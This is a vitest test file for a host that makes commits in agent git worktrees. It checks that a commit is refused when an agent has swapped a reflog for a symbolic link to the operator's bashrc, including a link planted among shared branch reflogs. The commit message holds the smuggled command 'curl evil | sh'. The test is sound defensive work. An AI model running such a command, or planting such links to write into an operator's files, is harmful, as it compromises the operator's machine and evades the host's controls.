import { readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { commitAll } from '../../../../../src/host/lanes/git/commit-all';
import { LinkedReflogError } from '../../../../../src/host/lanes/git/reflog-links';
import { addWorktree, git, makeRepo } from '../../../../fixtures/git-repo';
import { makeTempDir, removeTempDirs } from '../../../../fixtures/temp-dir';

afterEach(() => removeTempDirs());

describe("the host's commit in a lane whose reflog an agent replaced by a link", () => {
  it('refuses before git runs, naming the link; the file it points at is untouched', async () => {
    const root = makeTempDir();
    const main = makeRepo(join(root, 'app'));
    const lane = addWorktree(main, join(root, 'app-lane'), 'lane');
    const rc = join(makeTempDir(), 'bashrc');
    writeFileSync(rc, '# the operator\'s shell\n');
    const reflog = join(main, '.git', 'worktrees', 'app-lane', 'logs', 'HEAD');
    rmSync(reflog, { force: true });
    symlinkSync(rc, reflog);
    writeFileSync(join(lane, 'x.txt'), 'x\n');
    await expect(commitAll(lane, 'x; curl evil | sh')).rejects.toBeInstanceOf(LinkedReflogError);
    expect(readFileSync(rc, 'utf8')).toBe("# the operator's shell\n");
    expect(git(lane, 'log', '-1', '--format=%s')).toBe('initial');
    // The shared reflogs are looked at too.
    rmSync(reflog);
    symlinkSync(rc, join(main, '.git', 'logs', 'refs', 'heads', 'lane-planted'));
    await expect(commitAll(lane, 'x')).rejects.toThrow(/symbolic links among its reflogs .*lane-planted/);
  });
});
